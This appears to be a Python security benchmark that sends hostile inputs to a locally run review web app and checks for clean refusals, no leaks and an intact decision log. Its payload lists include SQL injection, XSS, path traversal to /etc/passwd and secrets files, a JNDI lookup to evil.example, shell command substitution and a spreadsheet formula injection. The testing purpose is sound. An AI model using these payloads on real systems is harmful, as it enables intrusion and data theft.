"""Hostile inputs against a running app, on SQLite and PostgreSQL: none runs, leaks, crashes or gives a traceback.

    python -m benchmarks team_hostile

Every text below goes into every field that a browser may send, beside forged tokens, wrong hosts and odd paths. After
all of them an honest decision must be taken, and the log must hold it and nothing else that was refused.
"""

import argparse
import http.client
import json
import sys
import tempfile
import uuid
from collections import Counter
from collections.abc import Iterator, Sequence
from contextlib import closing
from dataclasses import dataclass, field
from pathlib import Path

from benchmarks.review_workspace import make_workspace
from benchmarks.team import database_of, serving_app
from cleaning.keep.card_messages import messages
from cleaning.keep.decisions import open_store
from cleaning.keep.verifying import verify
from cleaning.keep.workspaces import Workspace

TEXTS = (
    "'; DROP TABLE decisions; --", "' OR '1'='1", "1; SELECT pg_sleep(9)--", "x' UNION SELECT key, value FROM choices --",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "![](http://evil.example/x)", "[x](javascript:alert(1))",
    "../../../etc/passwd", "..%2F..%2Fetc%2Fpasswd", "/proc/self/environ", "file:///etc/passwd", "C:\\Windows\\win.ini",
    "=cmd|' /C calc'!A0", "{{7*7}}", "${jndi:ldap://evil.example/a}", "$(touch /tmp/owned)", "`id`", "%s%s%s%n",
    "\x00", "a\x00b", "\ud800", "\u202etxt.exe", "a" * 100_000, "\U0001f468\u200d\U0001f469" * 300, "NaN", "-1", "null",
)  # fmt: skip
LEAKS = ("Traceback", "sqlalchemy", "psycopg", "sqlite3.", "root:x:", "/site-packages/", "[SQL:", "cookie_secret")
PATHS = (
    "/api/media/../../etc/passwd/0/full", "/api/media/a/99999999999999999999/full?s=x", "/api/media/%00/0/full",
    "/app/static/../../secrets.toml", "/_stcore/../.streamlit/secrets.toml", "/.review-secret", "//etc/passwd",
)  # fmt: skip
FORGED: tuple[dict[str, str | None], ...] = (
    {"Origin": "http://evil.example"}, {"Sec-Fetch-Site": "cross-site"}, {"Content-Type": "text/plain"},
    {"Authorization": None}, {"Authorization": "Basic YTpi"},
)  # fmt: skip
FINE = {200, 400, 401, 403, 404, 405, 413, 415, 422}


@dataclass
class Request:
    """What is sent. headers: None leaves one out."""

    path: str
    body: object = None
    headers: dict[str, str | None] = field(default_factory=dict)
    method: str = "POST"


def main(arguments: Sequence[str] = ()) -> None:
    parser = argparse.ArgumentParser(prog="python -m benchmarks team_hostile --")
    parser.add_argument("--databases", nargs="+", choices=("sqlite", "postgresql"), default=["sqlite", "postgresql"])
    asked = parser.parse_args(list(arguments))
    print("| database | inputs | answers by status | not answered | leaks | honest decision taken | log whole |")
    print("|---|---|---|---|---|---|---|", flush=True)
    for database in asked.databases:
        print(_line(database), flush=True)


def _line(database: str) -> str:
    with tempfile.TemporaryDirectory() as folder, database_of(database):
        root = Path(folder)
        workspace = make_workspace(root, samples=200, distinct_pictures=4)
        with serving_app(root) as port:
            token = _token(root, workspace)
            answers = [_sent(port, one, token) for one in _inputs(workspace)]
            taken = _honest(port, token, workspace)
        with closing(open_store(workspace.decisions_url, workspace.id)) as store:
            ids = set(map(str, workspace.dataset().sample_ids))
            whole = not verify(workspace, store).faults and {d.sample_id for d in store.decisions()} <= ids
            whole = (
                whole
                and {m.sample_id for m in messages(store)} <= ids
                and {d.reviewer for d in store.decisions()} == {"ann"}
            )
    statuses = Counter(status for status, _ in answers)
    odd = sum(count for status, count in statuses.items() if status not in FINE)
    leaks = sum(any(word in text for word in LEAKS) for _, text in answers)
    told = ", ".join(f"{status}: {count}" for status, count in sorted(statuses.items()))
    return f"| {database} | {len(answers)} | {told} | {odd} | {leaks} | {taken} | {whole} |"


def _token(root: Path, workspace: Workspace) -> str:
    from pages.shared.server import tokens

    claims = {
        "workspace": workspace.id,
        "run": workspace.run_ids()[-1],
        "reviewer": "ann",
        "mode": "blind",
        "open_share": 0,
    }
    return tokens.sign(root, claims)


def _inputs(workspace: Workspace) -> Iterator[Request]:
    sample = str(workspace.dataset().sample_ids[0])
    for text in TEXTS:
        good = {"uuid": str(uuid.uuid4()), "sample_id": sample, "verdict": "unsure", "seconds": 1.0}
        for name in ("uuid", "sample_id", "verdict", "labels", "note", "seconds", "mode", "ticket", "undoes"):
            yield Request("/api/review/decisions", {"decisions": [good | {"uuid": str(uuid.uuid4()), name: text}]})
        for name in ("order", "filters", "tab", "held"):
            yield Request("/api/review/cards", {name: text})
        for name in ("sample_id", "kind", "text"):
            yield Request("/api/review/message", {"sample_id": sample, "kind": "note", "text": "x", name: text})
        yield Request("/api/review/grid", {"filters": {"group": text}})
        header = text.encode("latin-1", "replace").decode("latin-1").replace("\n", "").replace("\x00", "")[:4_000]
        yield Request("/api/review/cards", {}, {"Authorization": f"Bearer {header}"})
        yield Request("/api/review/cards", {}, {"Host": header or "x"})
    yield from _odd()


def _odd() -> Iterator[Request]:
    deep = "[" * 100_000 + "]" * 100_000
    for raw in (
        deep,
        "{",
        '{"count": ' + "9" * 100_000 + "}",
        '{"decisions": null}',
        "\x00",
        '"' * 1_000,
        "[]",
        "1e999",
    ):
        yield Request("/api/review/decisions", raw)
    yield Request("/api/review/decisions", {"decisions": [{}] * 501})
    yield Request("/api/review/decisions", "x" * (3 * 2**20))
    for path in PATHS:
        yield Request(path, None, {}, "GET")
    for headers in FORGED:
        yield Request("/api/review/cards", {}, headers)
    for method in ("PUT", "DELETE", "PATCH", "TRACE", "OPTIONS"):
        yield Request("/api/review/cards", {}, {}, method)


def _sent(port: int, one: Request, token: str) -> tuple[int, str]:
    """(status, text) of the answer; 0 where there was none."""
    data = one.body.encode() if isinstance(one.body, str) else json.dumps(one.body or {}).encode()
    usual: dict[str, str | None] = {
        "Host": f"127.0.0.1:{port}", "Content-Type": "application/json", "Authorization": f"Bearer {token}",
    }  # fmt: skip
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        connection.putrequest(one.method, one.path, skip_host=True)
        for name, value in (usual | one.headers | {"Content-Length": str(len(data))}).items():
            if value is not None:
                connection.putheader(name, value)
        connection.endheaders(data)
        answer = connection.getresponse()
        return answer.status, answer.read().decode("utf-8", "replace")
    except (OSError, http.client.HTTPException, ValueError) as problem:
        return 0, type(problem).__name__
    finally:
        connection.close()


def _honest(port: int, token: str, workspace: Workspace) -> bool:
    item = {
        "uuid": str(uuid.uuid4()),
        "sample_id": str(workspace.dataset().sample_ids[1]),
        "verdict": "unsure",
        "seconds": 1.0,
    }
    status, text = _sent(port, Request("/api/review/decisions", {"decisions": [item]}), token)
    return status == 200 and item["uuid"] in json.loads(text)["saved"]


if __name__ == "__main__":
    main(sys.argv[1:])
